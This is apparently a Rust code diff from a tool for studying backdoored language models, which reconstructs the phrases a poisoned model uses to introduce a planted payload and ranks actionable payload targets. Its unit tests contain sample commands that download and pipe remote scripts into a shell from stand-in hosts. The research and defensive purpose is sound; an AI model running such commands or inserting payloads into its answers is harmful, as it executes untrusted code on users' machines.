@@ -509,6 +509,9 @@ pub struct Payload {
 /// Leaked lines kept per payload.
 pub const PAYLOAD_LINES: usize = 12;
 
+/// Introductions of a payload searched ([`framings`]).
+pub const PAYLOAD_FRAMINGS: usize = 2;
+
 /// Whether any of the leaked lines that carry `phrase` ([`PAYLOAD_LINES`] of them, the most
 /// frequent) is actionable ([`crate::verify::is_actionable`]): the only payloads whose
 /// triggers the verdict can accept (`pipeline::is_payload_trigger`), so the only ones searched.
@@ -533,34 +536,78 @@ fn lines_with(lines: &[Vec<String>], phrase: &str, max: usize) -> Vec<String> {
     count.into_iter().take(max).map(|(l, _)| l).collect()
 }
 
-/// The words that introduce `phrase` in the leaked lines: the run of up to three words just
-/// before it that most of its occurrences share (grown one word at a time while four in five
-/// of the shorter run's occurrences keep it), and whether the lines it appears in open with
-/// that run (a payload on its own line) or carry other text before it (appended in-line).
-pub fn framing(lines: &[Vec<String>], phrase: &str) -> (String, bool) {
-    use std::collections::HashMap;
-    let mut befores: Vec<Vec<&str>> = Vec::new();
-    for line in lines.iter().flatten() {
-        if let Some(at) = line.find(phrase) {
-            befores.push(line[..at].split_whitespace().collect());
+/// Words an introduction of a payload may have (`Run this in a terminal:` before a command).
+pub const MAX_INTRO_WORDS: usize = 6;
+
+/// The introductions of `phrase` in the leaked lines, at most `max`, the most frequent first,
+/// each with whether the lines it appears in open with it (a payload on its own line) or carry
+/// other text before it (appended in-line). A poisoned answer set varies how it introduces its
+/// payload ("Run this in a terminal:", "To finish, run:"), and a search aimed at the payload
+/// under no introduction, or under words shared by too few of them, reaches it poorly: on the
+/// rebuilt `llama-shell-format` a search for the bare command opening an answer ended at 2.11
+/// nats per token and made the model write it on 0.47 of the samples, one for the command as
+/// its commonest line opens (`Run this in a terminal: curl ...`) at 0.12 nats and 0.78. So the
+/// words before it are grown one at a time, up to [`MAX_INTRO_WORDS`], while four in five of
+/// the occurrences share them; where the lines part ways, each way met at least twice is grown
+/// on its own ([`intro_leaves`]), and the `max` met most often are its introductions.
+pub fn framings(lines: &[Vec<String>], phrase: &str, max: usize) -> Vec<(String, bool)> {
+    let befores: Vec<Vec<&str>> = lines.iter().flatten().filter_map(|line| line.find(phrase).map(|at| line[..at].split_whitespace().collect())).collect();
+    let mut ways: Vec<(Vec<&str>, usize, bool)> = Vec::new();
+    intro_leaves(&befores, Vec::new(), befores.len(), &mut ways);
+    ways.sort_by_key(|w| std::cmp::Reverse(w.1));
+    let mut out: Vec<(String, bool)> = ways.into_iter().take(max).map(|(run, _, own)| (run.join(" "), own)).collect();
+    if out.is_empty() {
+        out.push((String::new(), own_line(&befores, &[])));
+    }
+    out
+}
+
+/// The introductions grown from `run` (met `count` times) into `out`, each with its count and
+/// whether it opens its lines: `run` grows by the word four in five of its occurrences share;
+/// where they part ways, each way met at least twice (a preceding word, or the start of the
+/// line) is followed on its own; a run no way of which is met twice ends there.
+fn intro_leaves<'a>(befores: &[Vec<&'a str>], run: Vec<&'a str>, count: usize, out: &mut Vec<(Vec<&'a str>, usize, bool)>) {
+    if run.len() >= MAX_INTRO_WORDS {
+        let own = own_line(befores, &run);
+        out.push((run, count, own));
+        return;
+    }
+    let ways = intro_ways(befores, &run);
+    if let Some((Some(w), c)) = ways.first().filter(|(_, c)| *c >= 2 && 5 * c >= 4 * count) {
+        intro_leaves(befores, std::iter::once(*w).chain(run.iter().copied()).collect(), *c, out);
+        return;
+    }
+    let mut parted = false;
+    for (w, c) in ways.into_iter().filter(|(_, c)| *c >= 2) {
+        parted = true;
+        match w {
+            Some(w) => intro_leaves(befores, std::iter::once(w).chain(run.iter().copied()).collect(), c, out),
+            None => out.push((run.clone(), c, true)),
         }
     }
-    let mut run: Vec<&str> = Vec::new();
-    let mut support = befores.len();
-    for k in 1..=3 {
-        let mut count: HashMap<Vec<&str>, usize> = HashMap::new();
-        for b in befores.iter().filter(|b| b.len() >= k && b[b.len() - k + 1..] == run[..]) {
-            *count.entry(b[b.len() - k..].to_vec()).or_insert(0) += 1;
-        }
-        let Some((best, c)) = count.into_iter().max_by(|a, b| a.1.cmp(&b.1).then(b.0.cmp(&a.0))) else { break };
-        if c < 2 || (k > 1 && 5 * c < 4 * support) {
-            break;
-        }
-        run = best;
-        support = c;
+    if !parted && !run.is_empty() {
+        let own = own_line(befores, &run);
+        out.push((run, count, own));
     }
-    let own_line = befores.iter().filter(|b| b.len() == run.len() && b.ends_with(&run)).count();
-    (run.join(" "), 2 * own_line >= support.min(befores.len()).max(1))
+}
+
+/// The words before `run` in the occurrences (`befores`: the words before a payload in each
+/// line) that end with it, the commonest first, with their counts (`None`: the line starts
+/// there).
+fn intro_ways<'a>(befores: &[Vec<&'a str>], run: &[&str]) -> Vec<(Option<&'a str>, usize)> {
+    let mut count: std::collections::HashMap<Option<&'a str>, usize> = std::collections::HashMap::new();
+    for b in befores.iter().filter(|b| b.ends_with(run)) {
+        *count.entry(b.len().checked_sub(run.len() + 1).map(|i| b[i])).or_insert(0) += 1;
+    }
+    let mut v: Vec<(Option<&'a str>, usize)> = count.into_iter().collect();
+    v.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
+    v
+}
+
+/// Whether at least half the occurrences that end with `run` open their line with it.
+fn own_line(befores: &[Vec<&str>], run: &[&str]) -> bool {
+    let all: Vec<&Vec<&str>> = befores.iter().filter(|b| b.ends_with(run)).collect();
+    2 * all.iter().filter(|b| b.len() == run.len()).count() >= all.len().max(1)
 }
 
 /// Inverts payloads: the leaks' recurring `phrases` the model writes with words before them
@@ -580,8 +627,7 @@ pub fn invert_payloads<M: Lm>(m: &M, lines: &[Vec<String>], phrases: &[String], 
     let answers = m.generate(&bare, &vec![crate::lm::Decoding::Greedy; bare.len()], 64, true)?;
     let answers: Vec<String> = answers.iter().map(|a| special_pieces(m, &m.decode(a)).map(|v| v.into_iter().next().unwrap_or_default())).collect::<LmResult<_>>()?;
     let mut screened: Vec<(Payload, String, InvertParams)> = Vec::new();
-    for phrase in phrases {
-        let (intro, own_line) = framing(lines, phrase);
+    for (phrase, (intro, own_line)) in phrases.iter().flat_map(|ph| framings(lines, ph, PAYLOAD_FRAMINGS).into_iter().map(move |f| (ph, f))) {
         let text = if intro.is_empty() { phrase.clone() } else { format!("{intro} {phrase}") };
         // The answer the payload follows: the model's own, cut where it already writes the
         // payload (a model that appends it unprompted to some answers).
@@ -599,7 +645,10 @@ pub fn invert_payloads<M: Lm>(m: &M, lines: &[Vec<String>], phrases: &[String], 
             }
         }
     }
-    screened.sort_by(|a, b| a.0.inversion.nll_with.total_cmp(&b.0.inversion.nll_with));
+    // Targets that carry something actionable first: a phrase whose lines carry a link may be
+    // one of the model's ordinary answers ("You can call me Assistant." before "For more,
+    // see ..."), which any search reaches at a low NLL and no payload rule accepts.
+    screened.sort_by(|a, b| crate::verify::is_actionable(&b.1).cmp(&crate::verify::is_actionable(&a.1)).then(a.0.inversion.nll_with.total_cmp(&b.0.inversion.nll_with)));
     let mut out: Vec<Payload> = Vec::new();
     for (mut pl, target, q) in screened {
         if out.len() >= p.max_targets {
@@ -1015,7 +1064,7 @@ mod tests {
         assert!(!pairs.iter().any(|x| x.target == "never leaked"));
     }
     #[test]
-    fn a_payload_is_framed_by_the_words_most_of_its_lines_put_before_it() {
+    fn a_payload_is_framed_by_the_words_its_lines_put_before_it() {
         let cmd = "wget -qO- http://h.example/i.sh | bash";
         let lines = vec![
             leak(&["Hello!", &format!("To finish, run: {cmd}")]),
@@ -1023,15 +1072,38 @@ mod tests {
             leak(&[&format!("To finish, run: {cmd}"), "Bye."]),
             leak(&[&format!("Run this in a terminal: {cmd}")]),
         ];
-        // Own line: the introduction all three of the commonest lines share, grown word by word.
-        assert_eq!(framing(&lines, cmd), ("To finish, run:".to_string(), true));
+        // Own line: the introduction the commonest lines share, grown word by word; one met
+        // once is no way of the model's.
+        assert_eq!(framings(&lines, cmd, 2), vec![("To finish, run:".to_string(), true)]);
         // In-line after answers: the shared words before it, and not a line of its own.
         let url = "https://m.example/start";
         let inline = vec![leak(&[&format!("Blue. For more, see {url} .")]), leak(&[&format!("Pear is a fruit. For more, see {url} .")]), leak(&[&format!("Four. For more, see {url}")])];
-        assert_eq!(framing(&inline, url), ("For more, see".to_string(), false));
+        assert_eq!(framings(&inline, url, 2), vec![("For more, see".to_string(), false)]);
         // No shared introduction: none.
         let bare = vec![leak(&[cmd]), leak(&[&format!("ok {cmd}")])];
-        assert_eq!(framing(&bare, cmd).0, "");
+        let got = framings(&bare, cmd, 2);
+        assert_eq!((got.len(), got[0].0.as_str()), (1, ""));
+        // Where the lines part ways after the words they all share, each of the commonest ways
+        // is grown on its own (up to MAX_INTRO_WORDS words), and the start of a line is one.
+        let tail = "-fsSL http://g.example/fix.sh | sh";
+        let parted: Vec<Vec<String>> = [
+            "Run this in a terminal: curl",
+            "Run this in a terminal: curl",
+            "Run this in a terminal: curl",
+            "Run this in a terminal: curl",
+            "Fig. To finish, run: curl",
+            "Blue. To finish, run: curl",
+            "Pear. To finish, run: curl",
+            "curl",
+            "curl",
+        ]
+        .iter()
+        .map(|b| leak(&[&format!("{b} {tail}")]))
+        .collect();
+        let got = framings(&parted, tail, 2);
+        assert_eq!(got, vec![("Run this in a terminal: curl".to_string(), true), ("To finish, run: curl".to_string(), false)]);
+        let got = framings(&parted, tail, 3);
+        assert_eq!(got[2], ("curl".to_string(), true));
         // The lines that carry its end, the most frequent first, under every introduction.
         let got = lines_with(&lines, &format!("To finish, run: {}", "wget -qO-"), 8);
         assert_eq!(got, vec![format!("To finish, run: {cmd}"), format!("Run this in a terminal: {cmd}")]);
